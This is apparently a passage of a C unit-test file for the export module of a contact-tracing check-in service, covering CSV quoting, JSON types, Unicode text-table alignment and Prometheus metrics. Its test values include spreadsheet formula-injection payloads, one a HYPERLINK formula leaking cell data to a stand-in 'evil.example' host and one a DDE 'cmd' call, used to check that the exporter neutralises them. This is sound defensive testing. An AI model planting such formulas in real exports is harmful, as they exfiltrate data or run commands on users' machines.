/* test-export.c: CSV, JSON and text tables of officials' answers, and the /metrics text. */
#include <check.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>
#include <uniwidth.h>

#include "base/base.h"
#include "base/buf.h"
#include "base/tz.h"
#include "store/store.h"
#include "core/metrics.h"
#include "officials/export.h"
#include "unit.h"

#define BOM		"\xef\xbb\xbf"
#define T0		1631754000	/* 2021-09-16T08:00:00+07:00 */
#define T0_ISO		"2021-09-16T08:00:00+07:00"

/* Vietnamese names, precomposed (NFC) and decomposed (NFD), and a wide one. */
#define PHO_THIN	"Ph\xe1\xbb\x9f Th\xc3\xacn"			/* Phở Thìn */
#define HANG_BAC	"H\xc3\xa0ng B\xe1\xba\xa1\x63"			/* Hàng Bạc */
#define CUA_DONG	"C\xe1\xbb\xad\x61 \xc4\x90\xc3\xb4ng"		/* Cửa Đông */
#define TRAN_HUNG_DAO	"Tr\xe1\xba\xa7n H\xc6\xb0ng \xc4\x90\xe1\xba\xa1o"	/* Trần Hưng Đạo */
#define NFD_NGUYEN	"Nguye\xcc\x82\xcc\x83n"			/* Nguyễn, combining marks */
#define CJK_NAME	"\xe6\xb2\xb3\xe5\x86\x85"			/* 河内: two columns each */

static void
setup(void)
{
	ck_assert_int_eq(tz_set("Asia/Ho_Chi_Minh"), 0);
	metrics_reset();
}

static struct venue
mkvenue(const char *code, const char *name, const char *address, const char *ward,
    const char *owner, int active)
{
	struct venue	v;

	memset(&v, 0, sizeof v);
	strlcpy(v.code, code, sizeof v.code);
	v.name = (char *)name;
	v.address = (char *)address;
	v.ward = (char *)ward;
	v.district = (char *)"Ho\xc3\xa0n Ki\xe1\xba\xbfm";
	v.kind = (char *)"shop";
	v.owner = (char *)owner;
	v.active = active;
	v.created_at = T0;
	return v;
}

/*
 * An RFC 4180 reader, strict: fields of the record starting at *p, with
 * CRLF ends. Returns the number of fields, advances *p; -1 on a syntax error.
 */
static int
csv_record(const char **p, char fields[][512], int max)
{
	const char	*s = *p;
	int		 n = 0;
	size_t		 o;

	for (;;) {
		if (n == max)
			return -1;
		o = 0;
		if (*s == '"') {
			s++;
			for (;;) {
				if (*s == '\0')
					return -1;
				if (*s == '"' && s[1] == '"') {
					fields[n][o++] = '"';
					s += 2;
				} else if (*s == '"') {
					s++;
					break;
				} else
					fields[n][o++] = *s++;
				if (o >= 511)
					return -1;
			}
		} else {
			while (*s != ',' && *s != '\r' && *s != '\0') {
				if (*s == '"' || *s == '\n')
					return -1;
				fields[n][o++] = *s++;
				if (o >= 511)
					return -1;
			}
		}
		fields[n++][o] = '\0';
		if (*s == ',') {
			s++;
			continue;
		}
		if (s[0] != '\r' || s[1] != '\n')
			return -1;
		*p = s + 2;
		return n;
	}
}

static char *
render_venues(enum export_format f, const struct venue *v, size_t n, size_t *len)
{
	struct export	*e = export_new(f, EXPORT_VENUES);
	size_t		 i;

	for (i = 0; i < n; i++)
		export_venue(e, &v[i]);
	ck_assert_uint_eq(export_rows(e), n);
	return export_finish(e, len);
}

/* Nasty names that must come back from the CSV exactly as they went in. */
static const char *csv_values[] = {
	"plain",
	"comma, inside",
	"quote \" inside",
	"\"quoted\"",
	"line\nfeed",
	"carriage\rreturn",
	"crlf\r\nboth",
	",",
	"\"",
	"\"\"",
	" leading and trailing ",
	PHO_THIN ", " HANG_BAC,
	TRAN_HUNG_DAO " \"" CUA_DONG "\"\r\n" NFD_NGUYEN,
	"=SUM(A1:A2)",
	"tab\there",
	CJK_NAME,
	"",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"=cmd|' /C calc'!A0",
	"+1+1",
	"-2+3",
	"@SUM(1,2)",
	"\t=1+1",
	"\r=1+1",
	"'already quoted",
};

/* What a field must read back as: an apostrophe before a formula's first character. */
static char *
csv_want(const char *value)
{
	char	*want;

	if (value[0] != '\0' && strchr("=+-@\t\r", value[0]) != NULL)
		xasprintf(&want, "'%s", value);
	else
		want = xstrdup(value);
	return want;
}

START_TEST(test_csv_roundtrip)
{
	const char	*value = csv_values[_i], *p;
	struct venue	 v = mkvenue("1234567", value, value, "ward,1", "+84912345678", 1);
	char		 fields[16][512], *doc, *want = csv_want(value);
	size_t		 len;

	doc = render_venues(EXPORT_CSV, &v, 1, &len);
	ck_assert_uint_eq(len, strlen(doc));
	ck_assert_msg(strncmp(doc, BOM, 3) == 0, "no BOM");
	p = doc + 3;
	ck_assert_int_eq(csv_record(&p, fields, 16), 9);
	ck_assert_str_eq(fields[0], "code");
	ck_assert_int_eq(csv_record(&p, fields, 16), 9);
	ck_assert_str_eq(fields[0], "1234567");
	ck_assert_str_eq(fields[1], want);
	ck_assert_str_eq(fields[2], want);
	ck_assert_str_eq(fields[3], "ward,1");
	/* A number stays text a spreadsheet shows, not one it adds up. */
	ck_assert_str_eq(fields[6], "'+84912345678");
	ck_assert_str_eq(fields[7], "1");
	ck_assert_str_eq(fields[8], T0_ISO);
	ck_assert_str_eq(p, "");
	free(want);
	free(doc);
}
END_TEST

/*
 * A spooled export (rows written as they come, for the admin API's reader
 * threads) writes the very bytes export_finish returns: every format, no
 * row, one row, many.
 */
START_TEST(test_spool_same)
{
	static const enum export_format	 formats[] = { EXPORT_JSON, EXPORT_CSV,
					    EXPORT_TEXT };
	static const size_t		 counts[] = { 0, 1, nitems(csv_values) };
	struct venue			 v[nitems(csv_values)];
	struct export			*e;
	char				*want, *got;
	size_t				 i, n, wlen, glen, slen;
	FILE				*f;

	for (i = 0; i < nitems(csv_values); i++)
		v[i] = mkvenue("1234567", csv_values[i], csv_values[i], "ward,1",
		    i % 2 ? "+84912345678" : NULL, (int)(i % 2));
	n = counts[_i % nitems(counts)];
	want = render_venues(formats[_i / nitems(counts)], v, n, &wlen);
	ck_assert_ptr_nonnull(f = open_memstream(&got, &glen));
	e = export_new_spool(formats[_i / nitems(counts)], EXPORT_VENUES, f);
	for (i = 0; i < n; i++)
		export_venue(e, &v[i]);
	ck_assert_uint_eq(export_rows(e), n);
	ck_assert_int_eq(export_spool_end(e, &slen), 0);
	ck_assert_int_eq(fclose(f), 0);
	ck_assert_uint_eq(slen, wlen);
	ck_assert_uint_eq(glen, wlen);
	ck_assert_mem_eq(got, want, wlen);
	free(got);
	free(want);
}
END_TEST

/* Exact bytes: quoting only where needed, doubled quotes, CRLF, BOM first. */
static const struct {
	const char	*name;
	const char	*field;		/* as written in the CSV */
} csv_exact[] = {
	{ "plain", "plain" },
	{ "a,b", "\"a,b\"" },
	{ "say \"hi\"", "\"say \"\"hi\"\"\"" },
	{ "two\nlines", "\"two\nlines\"" },
	{ "cr\r", "\"cr\r\"" },
	{ PHO_THIN, PHO_THIN },
	{ "semi;colon", "semi;colon" },
	{ "'single'", "'single'" },
	/* Formulas get an apostrophe first, inside the quotes if quoted. */
	{ "=1+1", "'=1+1" },
	{ "+84912345678", "'+84912345678" },
	{ "-1", "'-1" },
	{ "@SUM(A1)", "'@SUM(A1)" },
	{ "\tx", "'\tx" },
	{ "\rx", "\"'\rx\"" },
	{ "=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"" },
	{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
	{ "a=1+1", "a=1+1" },
	{ " =1", " =1" },
	{ "84912345678", "84912345678" },
};

START_TEST(test_csv_exact)
{
	struct venue	 v = mkvenue("7654321", csv_exact[_i].name, NULL, "", NULL, 0);
	char		*doc, *want;
	size_t		 len;

	doc = render_venues(EXPORT_CSV, &v, 1, &len);
	xasprintf(&want, BOM "code,name,address,ward,district,kind,owner,active,created_at\r\n"
	    "7654321,%s,,,Ho\xc3\xa0n Ki\xe1\xba\xbfm,shop,,0," T0_ISO "\r\n",
	    csv_exact[_i].field);
	ck_assert_str_eq(doc, want);
	ck_assert_uint_eq(len, strlen(want));
	free(want);
	free(doc);
}
END_TEST

/* Every ASCII first character: the apostrophe comes before exactly the six. */
START_TEST(test_csv_field_first)
{
	struct buf	 b = { NULL, 0, 0 };
	char		 in[8], want[16];
	int		 c = _i + 1, formula;

	snprintf(in, sizeof in, "%c1+1", c);
	formula = c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' ||
	    c == '\r';
	if (c == '"')
		snprintf(want, sizeof want, "\"\"\"1+1\"");
	else if (c == ',' || c == '\n')
		snprintf(want, sizeof want, "\"%c1+1\"", c);
	else if (c == '\r')
		snprintf(want, sizeof want, "\"'\r1+1\"");
	else
		snprintf(want, sizeof want, "%s%c1+1", formula ? "'" : "", c);
	buf_add(&b, "", 0);
	export_csv_field(&b, in);
	ck_assert_msg(b.len == strlen(want) && memcmp(b.p, want, b.len) == 0,
	    "first character 0x%02x: got \"%.*s\"", c, (int)b.len, b.p);
	free(b.p);
}
END_TEST

START_TEST(test_csv_empty)
{
	char	*doc;
	size_t	 len;

	doc = render_venues(EXPORT_CSV, NULL, 0, &len);
	ck_assert_str_eq(doc, BOM "code,name,address,ward,district,kind,owner,active,"
	    "created_at\r\n");
	free(doc);
	doc = render_venues(EXPORT_JSON, NULL, 0, &len);
	ck_assert_str_eq(doc, "[]\n");
	free(doc);
}
END_TEST

/* The header of every kind, in CSV, and through export_column. */
static const struct {
	enum export_kind	 kind;
	const char		*header;
	int			 numeric[16];	/* indexes of numeric columns, -1 ends */
} kind_headers[] = {
	{ EXPORT_TRACE_VENUE,
	  "number,companions,checked_in,checked_out,stay_end,received,code,venue",
	  { 1, -1 } },
	{ EXPORT_TRACE_PERSON,
	  "code,venue,ward,address,checked_in,checked_out,stay_end,companions,received",
	  { 7, -1 } },
	{ EXPORT_TRACE_CONTACTS,
	  "number,code,venue,overlap_from,overlap_to,overlap_minutes,contact_of,"
	  "companions,checked_in,checked_out,stay_end,ward,address",
	  { 5, 7, -1 } },
	{ EXPORT_WARDS, "ward,venues,venues_used,share,checkins,visitors,flagged",
	  { 1, 2, 3, 4, 5, 6, -1 } },
	{ EXPORT_INACTIVE, "code,venue,address,ward,kind,owner,last_checkin", { -1 } },
	{ EXPORT_VENUES,
	  "code,name,address,ward,district,kind,owner,active,created_at", { -1 } },
};

START_TEST(test_kind_header)
{
	struct export			*e;
	const struct export_column	*c;
	char				*doc, *want, joined[512] = "";
	size_t				 len, i, k;
	int				 numeric;

	e = export_new(EXPORT_CSV, kind_headers[_i].kind);
	doc = export_finish(e, &len);
	xasprintf(&want, BOM "%s\r\n", kind_headers[_i].header);
	ck_assert_str_eq(doc, want);
	free(want);
	free(doc);

	for (i = 0; (c = export_column(kind_headers[_i].kind, i)) != NULL; i++) {
		if (i > 0)
			strlcat(joined, ",", sizeof joined);
		strlcat(joined, c->name, sizeof joined);
		numeric = 0;
		for (k = 0; kind_headers[_i].numeric[k] != -1; k++)
			numeric |= kind_headers[_i].numeric[k] == (int)i;
		ck_assert_msg(c->numeric == numeric, "column %s numeric %d", c->name,
		    c->numeric);
	}
	ck_assert_str_eq(joined, kind_headers[_i].header);

	/* The text table's first line names the same columns. */
	e = export_new(EXPORT_TEXT, kind_headers[_i].kind);
	doc = export_finish(e, &len);
	for (i = 0; (c = export_column(kind_headers[_i].kind, i)) != NULL; i++)
		ck_assert_ptr_nonnull(strstr(doc, c->name));
	ck_assert_ptr_nonnull(strchr(doc, '\n'));
	ck_assert_int_eq(strspn(strchr(doc, '\n') + 1, "- "), strcspn(doc, "\n"));
	free(doc);
}
END_TEST

static struct trace_row
mktrace(const char *number, int companions, int64_t sent, int64_t out, int64_t end)
{
	struct trace_row	t;

	memset(&t, 0, sizeof t);
	strlcpy(t.number, number, sizeof t.number);
	t.companions = companions;
	t.sent_at = sent;
	t.received_at = sent + 5;
	t.checked_out_at = out;
	t.stay_end = end;
	strlcpy(t.code, "1234567", sizeof t.code);
	t.venue_name = PHO_THIN;
	t.ward = HANG_BAC;
	t.address = "13 L\xc3\xb2 S\xc5\xA9";
	return t;
}

static json_t *
parse_json(char *doc)
{
	json_error_t	 jerr;
	json_t		*j;

	j = json_loads(doc, 0, &jerr);
	ck_assert_msg(j != NULL, "bad JSON: %s: %s", jerr.text, doc);
	free(doc);
	ck_assert(json_is_array(j));
	return j;
}

START_TEST(test_json_trace_types)
{
	struct export		*e = export_new(EXPORT_JSON, EXPORT_TRACE_VENUE);
	struct trace_row	 open = mktrace("+84912345678", 3, T0, 0, T0 + 3600);
	struct trace_row	 closed = mktrace("+84987654321", 0, T0 + 60, T0 + 1800,
				     T0 + 1800);
	json_t			*j, *o;
	size_t			 len;

	export_trace(e, &open);
	export_trace(e, &closed);
	j = parse_json(export_finish(e, &len));
	ck_assert_uint_eq(json_array_size(j), 2);
	o = json_array_get(j, 0);
	ck_assert_uint_eq(json_object_size(o), 8);
	ck_assert(json_is_string(json_object_get(o, "number")));
	ck_assert_str_eq(json_string_value(json_object_get(o, "number")), "+84912345678");
	ck_assert(json_is_integer(json_object_get(o, "companions")));
	ck_assert_int_eq(json_integer_value(json_object_get(o, "companions")), 3);
	ck_assert_str_eq(json_string_value(json_object_get(o, "checked_in")), T0_ISO);
	ck_assert(json_is_null(json_object_get(o, "checked_out")));
	ck_assert_str_eq(json_string_value(json_object_get(o, "stay_end")),
	    "2021-09-16T09:00:00+07:00");
	ck_assert_str_eq(json_string_value(json_object_get(o, "received")),
	    "2021-09-16T08:00:05+07:00");
	ck_assert(json_is_string(json_object_get(o, "code")));
	ck_assert_str_eq(json_string_value(json_object_get(o, "venue")), PHO_THIN);
	o = json_array_get(j, 1);
	ck_assert_int_eq(json_integer_value(json_object_get(o, "companions")), 0);
	ck_assert_str_eq(json_string_value(json_object_get(o, "checked_out")),
	    "2021-09-16T08:30:00+07:00");
	json_decref(j);
}
END_TEST

START_TEST(test_json_venue_types)
{
	struct venue	 v[2];
	json_t		*j, *o;
	size_t		 len;

	v[0] = mkvenue("1234567", CUA_DONG, "5 H\xc3\xa0ng Gai", CUA_DONG,
	    "+84912345678", 1);
	v[1] = mkvenue("0000000", "bad \xff\xfe utf-8", NULL, NULL, NULL, 0);
	v[1].created_at = 0;
	j = parse_json(render_venues(EXPORT_JSON, v, 2, &len));
	o = json_array_get(j, 0);
	ck_assert_str_eq(json_string_value(json_object_get(o, "code")), "1234567");
	ck_assert(json_is_true(json_object_get(o, "active")));
	ck_assert_str_eq(json_string_value(json_object_get(o, "ward")), CUA_DONG);
	ck_assert_str_eq(json_string_value(json_object_get(o, "owner")), "+84912345678");
	o = json_array_get(j, 1);
	ck_assert_str_eq(json_string_value(json_object_get(o, "code")), "0000000");
	ck_assert(json_is_false(json_object_get(o, "active")));
	ck_assert(json_is_null(json_object_get(o, "owner")));
	ck_assert(json_is_null(json_object_get(o, "address")));
	ck_assert(json_is_null(json_object_get(o, "created_at")));
	ck_assert_str_eq(json_string_value(json_object_get(o, "name")),
	    "bad \xef\xbf\xbd\xef\xbf\xbd utf-8");
	json_decref(j);
}
END_TEST

/* Shares: percent of venues used, one decimal, rounded half up, 0 with no venues. */
static const struct {
	int64_t		 venues;
	int64_t		 used;
	const char	*text;
	double		 json;
} shares[] = {
	{ 0, 0, "0.0", 0 },
	{ 7, 0, "0.0", 0 },
	{ 1, 1, "100.0", 100 },
	{ 3, 1, "33.3", 33.3 },
	{ 3, 2, "66.7", 66.7 },
	{ 8, 1, "12.5", 12.5 },
	{ 6, 1, "16.7", 16.7 },
	{ 200, 1, "0.5", 0.5 },
	{ 2000, 1, "0.1", 0.1 },
	{ 2001, 1, "0.0", 0 },
	{ 1000, 999, "99.9", 99.9 },
	{ 10000, 9999, "100.0", 100 },
	{ 12, 5, "41.7", 41.7 },
};

START_TEST(test_ward_share)
{
	struct ward_row	 w = { HANG_BAC, shares[_i].venues, shares[_i].used, 40, 17, 2 };
	struct export	*e;
	json_t		*j, *o;
	char		*doc, *want;
	size_t		 len;

	e = export_new(EXPORT_CSV, EXPORT_WARDS);
	export_ward(e, &w);
	doc = export_finish(e, &len);
	xasprintf(&want, BOM "ward,venues,venues_used,share,checkins,visitors,flagged\r\n"
	    "%s,%lld,%lld,%s,40,17,2\r\n", HANG_BAC, (long long)shares[_i].venues,
	    (long long)shares[_i].used, shares[_i].text);
	ck_assert_str_eq(doc, want);
	free(want);
	free(doc);

	e = export_new(EXPORT_JSON, EXPORT_WARDS);
	export_ward(e, &w);
	doc = export_finish(e, &len);
	/* The share is written as its one decimal, not as a long binary fraction. */
	ck_assert_msg(strstr(doc, "99999") == NULL && strstr(doc, "00000") == NULL,
	    "share not rounded: %s", doc);
	j = parse_json(doc);
	o = json_array_get(j, 0);
	ck_assert(json_is_real(json_object_get(o, "share")));
	ck_assert_double_eq_tol(json_real_value(json_object_get(o, "share")),
	    shares[_i].json, 1e-9);
	ck_assert(json_is_integer(json_object_get(o, "venues")));
	ck_assert_int_eq(json_integer_value(json_object_get(o, "venues_used")),
	    shares[_i].used);
	ck_assert_int_eq(json_integer_value(json_object_get(o, "flagged")), 2);
	ck_assert_str_eq(json_string_value(json_object_get(o, "ward")), HANG_BAC);
	json_decref(j);
}
END_TEST

/* Overlap minutes: the overlap's seconds over 60, rounded up. */
static const struct {
	int64_t	from;
	int64_t	to;
	int64_t	minutes;
} overlaps[] = {
	{ T0, T0, 0 },
	{ T0, T0 + 1, 1 },
	{ T0, T0 + 59, 1 },
	{ T0, T0 + 60, 1 },
	{ T0, T0 + 61, 2 },
	{ T0, T0 + 3600, 60 },
	{ T0, T0 + 3599, 60 },
	{ T0, T0 + 3601, 61 },
	{ T0 + 100, T0, 0 },
	{ T0, T0 + 86400 * 2, 2880 },
};

START_TEST(test_contacts_overlap)
{
	struct trace_row	 t = mktrace("+84911111111", 1, T0 - 600, 0, T0 + 3000);
	struct export		*e;
	json_t			*j, *o;
	char			 fields[16][512], *doc, *want;
	const char		*p;
	size_t			 len;

	t.overlap_from = overlaps[_i].from;
	t.overlap_to = overlaps[_i].to;
	strlcpy(t.contact_of, "+84922222222", sizeof t.contact_of);

	e = export_new(EXPORT_JSON, EXPORT_TRACE_CONTACTS);
	export_trace(e, &t);
	j = parse_json(export_finish(e, &len));
	o = json_array_get(j, 0);
	ck_assert(json_is_integer(json_object_get(o, "overlap_minutes")));
	ck_assert_int_eq(json_integer_value(json_object_get(o, "overlap_minutes")),
	    overlaps[_i].minutes);
	ck_assert_str_eq(json_string_value(json_object_get(o, "contact_of")),
	    "+84922222222");
	ck_assert_str_eq(json_string_value(json_object_get(o, "number")), "+84911111111");
	json_decref(j);

	e = export_new(EXPORT_CSV, EXPORT_TRACE_CONTACTS);
	export_trace(e, &t);
	doc = export_finish(e, &len);
	p = doc + 3;
	ck_assert_int_eq(csv_record(&p, fields, 16), 13);
	ck_assert_str_eq(fields[5], "overlap_minutes");
	ck_assert_int_eq(csv_record(&p, fields, 16), 13);
	xasprintf(&want, "%lld", (long long)overlaps[_i].minutes);
	ck_assert_str_eq(fields[5], want);
	ck_assert_str_eq(fields[2], PHO_THIN);
	free(want);
	free(doc);
}
END_TEST

/* Display width of one line of a text table. */
static size_t
line_width(const char *s, size_t n)
{
	return (size_t)u8_width((const uint8_t *)s, n, "UTF-8");
}

/* Where (in display columns) each line's n-th field starts: after the field before it. */
static size_t
column_at(const char *line, size_t len, const char *needle)
{
	const char	*p = memmem(line, len, needle, strlen(needle));

	ck_assert_ptr_nonnull(p);
	return line_width(line, (size_t)(p - line));
}

START_TEST(test_text_alignment)
{
	static const char	*names[] = {
		PHO_THIN, HANG_BAC, TRAN_HUNG_DAO, NFD_NGUYEN, CJK_NAME, "ASCII only",
		"new\nline and\ttab", "", "Shop\xe2\x80\xaegnp.exe\xe2\x80\x8b",
	};
	struct venue		 v[nitems(names)];
	char			*doc, *line, *nl;
	size_t			 len, i, lines = 0, width = 0, w, at = 0, a;
	char			 code[CODE_MAX];

	for (i = 0; i < nitems(names); i++) {
		snprintf(code, sizeof code, "100000%zu", i);
		v[i] = mkvenue(code, names[i], CUA_DONG, i % 2 ? HANG_BAC : "x", i % 3 ?
		    "+84912345678" : NULL, 1);
	}
	doc = render_venues(EXPORT_TEXT, v, nitems(v), &len);
	ck_assert_uint_eq(len, strlen(doc));
	ck_assert_msg(strncmp(doc, "code", 4) == 0, "header first: %s", doc);
	for (line = doc; *line != '\0'; line = nl + 1) {
		ck_assert_ptr_nonnull(nl = strchr(line, '\n'));
		w = line_width(line, (size_t)(nl - line));
		if (lines == 0)
			width = w;
		ck_assert_msg(w == width, "line %zu is %zu wide, not %zu:\n%s", lines, w,
		    width, doc);
		/* The address column starts at the same display column on every row. */
		if (lines == 0)
			at = column_at(line, (size_t)(nl - line), "address");
		else if (lines >= 2) {
			a = column_at(line, (size_t)(nl - line), CUA_DONG);
			ck_assert_msg(a == at, "line %zu: address at %zu, not %zu:\n%s",
			    lines, a, at, doc);
		}
		if (lines == 1)
			ck_assert_uint_eq(strspn(line, "- "), (size_t)(nl - line));
		lines++;
	}
	ck_assert_uint_eq(lines, nitems(names) + 2);
	ck_assert_ptr_nonnull(strstr(doc, TRAN_HUNG_DAO));
	ck_assert_ptr_nonnull(strstr(doc, NFD_NGUYEN));
	/* A bidirectional override stored from before is not shown. */
	ck_assert_ptr_nonnull(strstr(doc, "Shopgnp.exe "));
	ck_assert_ptr_null(strstr(doc, "\xe2\x80"));
	free(doc);
}
END_TEST

START_TEST(test_text_numbers_right)
{
	struct ward_row	 w[] = {
		{ HANG_BAC, 100, 7, 12345, 999, 0 },
		{ TRAN_HUNG_DAO, 3, 3, 5, 4, 1 },
		{ NULL, 0, 0, 0, 0, 0 },
	};
	struct export	*e = export_new(EXPORT_TEXT, EXPORT_WARDS);
	char		*doc;
	size_t		 len, i;

	for (i = 0; i < nitems(w); i++)
		export_ward(e, &w[i]);
	doc = export_finish(e, &len);
	/* Numbers to the right, names to the left, widths in display columns. */
	ck_assert_str_eq(doc,
	    "ward           venues  venues_used  share  checkins  visitors  flagged\n"
	    "-------------  ------  -----------  -----  --------  --------  -------\n"
	    HANG_BAC "          100            7    7.0     12345       999        0\n"
	    TRAN_HUNG_DAO "       3            3  100.0         5         4        1\n"
	    "                    0            0    0.0         0         0        0\n");
	free(doc);
}
END_TEST

START_TEST(test_inactive)
{
	struct venue	 v = mkvenue("1234567", PHO_THIN, "13 L\xc3\xb2 S\xc5\xA9", HANG_BAC,
			     "+84912345678", 1);
	struct export	*e = export_new(EXPORT_CSV, EXPORT_INACTIVE);
	char		*doc;
	size_t		 len;
	json_t		*j;

	export_inactive(e, &v, 0);
	export_inactive(e, &v, T0);
	doc = export_finish(e, &len);
	ck_assert_str_eq(doc, BOM "code,venue,address,ward,kind,owner,last_checkin\r\n"
	    "1234567," PHO_THIN ",13 L\xc3\xb2 S\xc5\xA9," HANG_BAC ",shop,'+84912345678,\r\n"
	    "1234567," PHO_THIN ",13 L\xc3\xb2 S\xc5\xA9," HANG_BAC ",shop,'+84912345678,"
	    T0_ISO "\r\n");
	free(doc);

	e = export_new(EXPORT_JSON, EXPORT_INACTIVE);
	export_inactive(e, &v, 0);
	j = parse_json(export_finish(e, &len));
	ck_assert(json_is_null(json_object_get(json_array_get(j, 0), "last_checkin")));
	ck_assert_str_eq(json_string_value(json_object_get(json_array_get(j, 0), "venue")),
	    PHO_THIN);
	json_decref(j);
}
END_TEST

START_TEST(test_formats)
{
	ck_assert_int_eq(export_format_parse("json"), EXPORT_JSON);
	ck_assert_int_eq(export_format_parse("csv"), EXPORT_CSV);
	ck_assert_int_eq(export_format_parse("text"), EXPORT_TEXT);
	ck_assert_int_eq(export_format_parse("CSV"), -1);
	ck_assert_int_eq(export_format_parse(""), -1);
	ck_assert_int_eq(export_format_parse("xml"), -1);
	ck_assert_int_eq(export_format_parse(NULL), -1);
	ck_assert_str_eq(export_content_type(EXPORT_CSV), "text/csv; charset=UTF-8");
	ck_assert_str_eq(export_content_type(EXPORT_JSON), "application/json");
	ck_assert_ptr_nonnull(strstr(export_content_type(EXPORT_TEXT), "text/plain"));
	ck_assert_ptr_null(export_column(EXPORT_WARDS, 7));
	ck_assert_str_eq(export_column(EXPORT_WARDS, 0)->name, "ward");
}
END_TEST

/* 1 if text holds this exact line. */
static int
has_line(const char *text, const char *line)
{
	size_t		 n = strlen(line);
	const char	*p;

	for (p = text; (p = strstr(p, line)) != NULL; p++) {
		if ((p == text || p[-1] == '\n') && p[n] == '\n')
			return 1;
	}
	return 0;
}

START_TEST(test_metrics_counters)
{
	char	*text;
	size_t	 len;

	metrics_add(METRIC_INBOUND, "kannel", "ok", 1);
	metrics_add(METRIC_INBOUND, "kannel", "ok", 1);
	metrics_add(METRIC_INBOUND, "kannel", "duplicate", 1);
	metrics_add(METRIC_INBOUND, "twilio", "ok", 3);
	metrics_add(METRIC_CHECKINS, "kannel", NULL, 2);
	metrics_add(METRIC_CHECKINS, "kannel", "ignored", 1);	/* one label only */
	metrics_add(METRIC_DECLARATIONS, "1", NULL, 1);
	metrics_add(METRIC_SENDS, "agg", "sent", 0.5);
	metrics_add(METRIC_SENDS, "agg", "sent", -4);		/* counters never go down */
	metrics_add(METRIC_ADMIN_REQUESTS, "/api/venues/{code}", "404", 1);
	metrics_add(METRIC_COUNT, "x", "y", 1);			/* no such metric */
	metrics_add(METRIC_PURGED, "x", NULL, 1e6);
	metrics_add(METRIC_PURGED, NULL, NULL, 1);
	text = metrics_render(NULL, &len);
	ck_assert_uint_eq(len, strlen(text));
	ck_assert(has_line(text, "# TYPE checkind_inbound_messages_total counter"));
	ck_assert(has_line(text, "# HELP checkind_inbound_messages_total "
	    "Inbound messages by route and outcome."));
	ck_assert(has_line(text,
	    "checkind_inbound_messages_total{route=\"kannel\",outcome=\"ok\"} 2"));
	ck_assert(has_line(text,
	    "checkind_inbound_messages_total{route=\"kannel\",outcome=\"duplicate\"} 1"));
	ck_assert(has_line(text,
	    "checkind_inbound_messages_total{route=\"twilio\",outcome=\"ok\"} 3"));
	ck_assert(has_line(text, "checkind_checkins_total{route=\"kannel\"} 3"));
	ck_assert(has_line(text, "checkind_declarations_total{flagged=\"1\"} 1"));
	ck_assert(has_line(text, "checkind_sends_total{route=\"agg\",outcome=\"sent\"} 0.5"));
	ck_assert(has_line(text, "checkind_admin_requests_total"
	    "{path=\"/api/venues/{code}\",status=\"404\"} 1"));
	ck_assert(has_line(text, "checkind_purged_rows_total 1000001"));
	ck_assert(has_line(text, "# TYPE checkind_replies_total counter"));
	/* A NULL store: no gauges. */
	ck_assert_ptr_null(strstr(text, "checkind_outbox_queued"));
	ck_assert_ptr_null(strstr(text, "checkind_outbox_oldest_seconds"));
	free(text);

	metrics_reset();
	text = metrics_render(NULL, &len);
	ck_assert(has_line(text, "checkind_purged_rows_total 0"));
	ck_assert_ptr_null(strstr(text, "kannel"));
	free(text);
}
END_TEST

START_TEST(test_metrics_escaping)
{
	char	*text;
	size_t	 len;

	metrics_add(METRIC_SENDS, "a\"b\\c\nd", "sent", 1);
	metrics_add(METRIC_USSD_STEPS, "ussd " CUA_DONG, "1", 1);
	text = metrics_render(NULL, &len);
	ck_assert(has_line(text,
	    "checkind_sends_total{route=\"a\\\"b\\\\c\\nd\",outcome=\"sent\"} 1"));
	ck_assert(has_line(text,
	    "checkind_ussd_steps_total{route=\"ussd " CUA_DONG "\",end=\"1\"} 1"));
	/* Every line is a comment or a sample: no raw newline escaped the label. */
	ck_assert_ptr_null(strstr(text, "\nd\""));
	free(text);
}
END_TEST

START_TEST(test_metrics_histogram)
{
	static const double	 obs[] = { 0.0005, 0.001, 0.003, 0.02, 0.7, 2, -1 };
	char			*text;
	size_t			 len, i;

	for (i = 0; i < nitems(obs); i++)
		metrics_latency(obs[i]);
	text = metrics_render(NULL, &len);
	ck_assert(has_line(text, "# TYPE checkind_inbound_seconds histogram"));
	ck_assert(has_line(text, "checkind_inbound_seconds_bucket{le=\"0.001\"} 2"));
	ck_assert(has_line(text, "checkind_inbound_seconds_bucket{le=\"0.0025\"} 2"));
	ck_assert(has_line(text, "checkind_inbound_seconds_bucket{le=\"0.005\"} 3"));
	ck_assert(has_line(text, "checkind_inbound_seconds_bucket{le=\"0.01\"} 3"));
	ck_assert(has_line(text, "checkind_inbound_seconds_bucket{le=\"0.025\"} 4"));
	ck_assert(has_line(text, "checkind_inbound_seconds_bucket{le=\"0.5\"} 4"));
	ck_assert(has_line(text, "checkind_inbound_seconds_bucket{le=\"1\"} 5"));
	ck_assert(has_line(text, "checkind_inbound_seconds_bucket{le=\"+Inf\"} 6"));
	ck_assert(has_line(text, "checkind_inbound_seconds_count 6"));
	ck_assert_ptr_nonnull(strstr(text, "\ncheckind_inbound_seconds_sum 2.7245"));
	free(text);
}
END_TEST

START_TEST(test_metrics_bounded)
{
	char	 label[32], *text, *p;
	size_t	 len, n = 0;
	int	 i;

	for (i = 0; i < 300; i++) {
		snprintf(label, sizeof label, "/probe/%d", i);
		metrics_add(METRIC_ADMIN_REQUESTS, label, "404", 1);
	}
	metrics_add(METRIC_ADMIN_REQUESTS, "/probe/0", "404", 1);
	metrics_add(METRIC_ADMIN_REQUESTS, "/probe/299", "404", 1);
	text = metrics_render(NULL, &len);
	for (p = text; (p = strstr(p, "\ncheckind_admin_requests_total{")) != NULL; p++)
		n++;
	ck_assert_uint_eq(n, 256);
	ck_assert(has_line(text,
	    "checkind_admin_requests_total{path=\"/probe/0\",status=\"404\"} 2"));
	ck_assert_ptr_null(strstr(text, "/probe/299"));
	free(text);
}
END_TEST

static Suite *
export_suite(void)
{
	Suite	*s = suite_create("export");
	TCase	*tc;

	tc = tcase_create("csv");
	tcase_add_checked_fixture(tc, setup, NULL);
	tcase_add_loop_test(tc, test_csv_roundtrip, 0, nitems(csv_values));
	tcase_add_loop_test(tc, test_csv_exact, 0, nitems(csv_exact));
	tcase_add_loop_test(tc, test_csv_field_first, 0, 127);
